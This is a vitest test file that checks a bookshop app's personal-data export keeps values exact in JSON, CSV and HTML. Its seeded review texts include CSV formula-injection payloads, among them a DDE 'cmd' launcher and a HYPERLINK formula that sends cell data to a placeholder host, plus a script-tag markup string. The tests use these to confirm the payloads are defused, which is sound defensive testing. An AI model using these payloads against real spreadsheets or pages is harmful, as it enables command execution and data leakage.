import { spawnSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { Context } from '../../src/workspace/open.js';
import { outsideTool } from '../support/tools.js';
import { bookshopWorkspace, type TestWorkspace } from '../support/workspace.js';
import type { ReadArchive } from './support/archive.js';
import { exportPerson } from './support/export.js';

// Whole exports, several to a test: a busy machine takes its time.
vi.setConfig({ testTimeout: 120_000 });

const EMAIL = 'neparasta@vertibas.example';
const COMBINED = 'Be\u0304rzin\u0327a';
/** What people type, and what programs trip over; as review texts, which are given as they are. */
const TEXTS = [
  'He said "no", twice; \'so\' what',
  'first line\nsecond line\r\nthird line',
  '=HYPERLINK("http://example.invalid/"&A1)',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\tindented',
  '+371 25550000',
  'Кирилица «Ёлка»',
  'שלום \u202Eكتاب\u202C عربي',
  COMBINED,
  'comma, semicolon; pipe | tab\tend',
  '\\n is not a newline, \\" is not a quote',
  '😀 \u{1D538} astral',
  '</script><b>&amp;',
  ' space around ',
  'NULL',
];

let workspace: TestWorkspace;
let context: Context;
let archive: ReadArchive;

beforeAll(async () => {
  workspace = await bookshopWorkspace();
  context = await workspace.context();
  await context.database.transaction('read committed', async (session) => {
    await session.run(
      `INSERT INTO shop.customers (id, email, first_name, last_name, company_name, phone, landline, segment, created_at, last_login_at)
       VALUES (9007199254740993, $1, '"O''Neill", Ann', $2, '', '+371 25550000', NULL, NULL,
         '2024-02-29 23:59:59.999999+00', '0044-03-15 12:00:00+00 BC')`,
      [EMAIL, COMBINED],
    );
    for (const [i, text] of TEXTS.entries()) {
      await session.run(
        `INSERT INTO shop.reviews (id, book_id, customer_id, signed_as, rating, body, created_at)
         VALUES ($1::bigint, $2::integer, 9007199254740993, $3, 5, '', timestamptz '2024-01-01 00:00:00.000001+00' + $2::integer * interval '1 microsecond')`,
        [String(9_100_000_000_000_000_000n + BigInt(i)), i + 1, text],
      );
    }
    await session.run(
      `INSERT INTO shop.orders (id, order_number, customer_id, placed_at, goods_total, shipping_total, customer_note, client_ip)
       VALUES (9007199254740995, 'RB-2024-990001', 9007199254740993, '2024-01-01 00:00:00+00', 9999999999.10, 0.00, '', '2001:db8::1')`,
    );
    await session.run(
      `INSERT INTO shop.event_log (id, event, occurred_at, payload) VALUES (9007199254740997, 'order.placed', '2024-06-01 00:00:00+00', '{
        "customer": {"id": 9007199254740993}, "order": {"number": "RB-2024-990001", "total": 1.10},
        "items": [{"book": 12345678901234567890, "quantity": 1e400, "dedication": "a\\nb \\u0001 \\ud83d\\ude00"},
                  {"book": -0.000, "quantity": 100000000000000000000.000000000000000001, "dedication": null}]}')`,
    );
  });
  archive = (await exportPerson(context, { email: EMAIL })).archive;
});
afterAll(async () => {
  await context.database.close();
  await workspace.remove();
});

describe('values in JSON', () => {
  it('keep microseconds, and times before Christ', () => {
    const [customer] = archive.rows('shop.customers');
    expect(customer).toMatchObject({ created_at: '2024-03-01 01:59:59.999999+02' });
    expect(customer?.last_login_at).toMatch(/^0044-03-15 .* BC$/);
    const times = archive.rows('shop.reviews').map((row) => row.created_at);
    expect(times.slice(0, 3)).toEqual(['000002', '000003', '000004'].map((micro) => `2024-01-01 02:00:00.${micro}+02`));
  });

  it('keep bigint and numeric as text, unrounded', () => {
    expect(archive.rows('shop.customers')[0]?.id).toBe('9007199254740993');
    expect(archive.rows('shop.orders')[0]).toMatchObject({
      id: '9007199254740995',
      goods_total: '9999999999.10',
      shipping_total: '0.00',
      total: '9999999999.10',
      client_ip: '2001:db8::1',
    });
  });

  it('tell NULL from an empty text, and a number from a text', () => {
    expect(archive.rows('shop.customers')[0]).toMatchObject({
      company_name: '',
      landline: null,
      segment: null,
      sms_opt_in: false,
    });
    expect(archive.rows('shop.orders')[0]).toMatchObject({ customer_note: '', paid_at: null, channel: 1 });
  });

  it('keep every text as it was typed', () => {
    expect(archive.rows('shop.reviews').map((row) => row.signed_as)).toEqual(TEXTS);
    expect(archive.rows('shop.customers')[0]).toMatchObject({ first_name: '"O\'Neill", Ann', last_name: COMBINED });
  });

  it('keep the numbers of a document to the last digit', () => {
    const text = archive.text('data/shop.event_log.json');
    const stored = text.split('\n').find((line) => line.startsWith('{"id":"9007199254740997"')) ?? '';
    expect(stored).toContain('"total":1.10');
    expect(stored).toContain('"book":12345678901234567890,');
    expect(stored).toContain('"book":0.000,');
    expect(stored).toContain('100000000000000000000.000000000000000001');
    expect(stored).toMatch(/"quantity":(1e400|10{400})[,}]/);
    const [payload] = archive.rows('shop.event_log').map((row) => row.payload as { items: { dedication: unknown }[] });
    expect(payload?.items.map((item) => item.dedication)).toEqual(['a\nb \u0001 😀', null]);
  });
});

/** A spreadsheet must not take a text for a formula; numbers and phones call nothing. */
function asInCsv(text: string): string {
  return /^[=+\-@\t\r]/.test(text) && !/^[+-]?[\d\s().,/:-]+$/.test(text) ? `'${text}` : text;
}

describe('values in CSV', () => {
  it('are read back by csv-parse', () => {
    const rows = parseCsv<Record<string, string>>(archive.text('data/shop.reviews.csv'), { bom: true, columns: true });
    expect(rows.map((row) => row.signed_as)).toEqual(TEXTS.map(asInCsv));
    expect(rows.map((row) => row.id)).toEqual(archive.rows('shop.reviews').map((row) => row.id));
    expect(Object.keys(rows[0] ?? {})).toEqual(Object.keys(archive.tables.get('shop.reviews')?.columns ?? {}));
  });

  it('defuses formulas and leaves phone numbers alone', () => {
    const rows = parseCsv<Record<string, string>>(archive.text('data/shop.reviews.csv'), { bom: true, columns: true });
    expect(rows.filter((row) => row.signed_as?.startsWith("'")).map((row) => row.signed_as)).toEqual([
      '\'=HYPERLINK("http://example.invalid/"&A1)',
      "'+1+1",
      "'-2+3+cmd|' /C calc'!A0",
      "'@SUM(A1:A9)",
      "'\tindented",
    ]);
    expect(rows.map((row) => row.signed_as)).toContain('+371 25550000');
  });

  const python = outsideTool('python3');
  it.skipIf(!python.available)('are read back by Python’s csv module', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'gdpr-csv-'));
    try {
      for (const table of ['shop.reviews', 'shop.customers', 'shop.event_log']) {
        await writeFile(join(folder, `${table}.csv`), archive.text(`data/${table}.csv`));
      }
      const program = `import csv, json, sys
print(json.dumps({t: list(csv.DictReader(open(f"{sys.argv[1]}/{t}.csv", encoding="utf-8-sig", newline=""), strict=True))
  for t in ["shop.reviews", "shop.customers", "shop.event_log"]}))`;
      const { stdout, status } = spawnSync(python.path, ['-c', program, folder], {
        encoding: 'utf8',
        env: { PYTHONIOENCODING: 'utf-8' },
      });
      expect(status).toBe(0);
      const read = JSON.parse(stdout) as Record<string, Record<string, string>[]>;
      expect(read['shop.reviews']?.map((row) => row.signed_as)).toEqual(TEXTS.map(asInCsv));
      expect(read['shop.customers']?.[0]).toMatchObject({
        first_name: '"O\'Neill", Ann',
        last_name: COMBINED,
        created_at: '2024-03-01 01:59:59.999999+02',
      });
      const payload = read['shop.event_log']?.[0]?.payload ?? '';
      expect(payload).toContain('12345678901234567890');
      expect(JSON.parse(payload)).toEqual(archive.rows('shop.event_log')[0]?.payload);
    } finally {
      await rm(folder, { recursive: true });
    }
  });
});

describe('values on the page', () => {
  it('are text, never markup', () => {
    const page = archive.text('index.html').replaceAll('<wbr>', '');
    expect(page.includes('&lt;/script&gt;&lt;b&gt;&amp;amp;')).toBe(true);
    expect(page.includes('</script><b>')).toBe(false);
  });
});
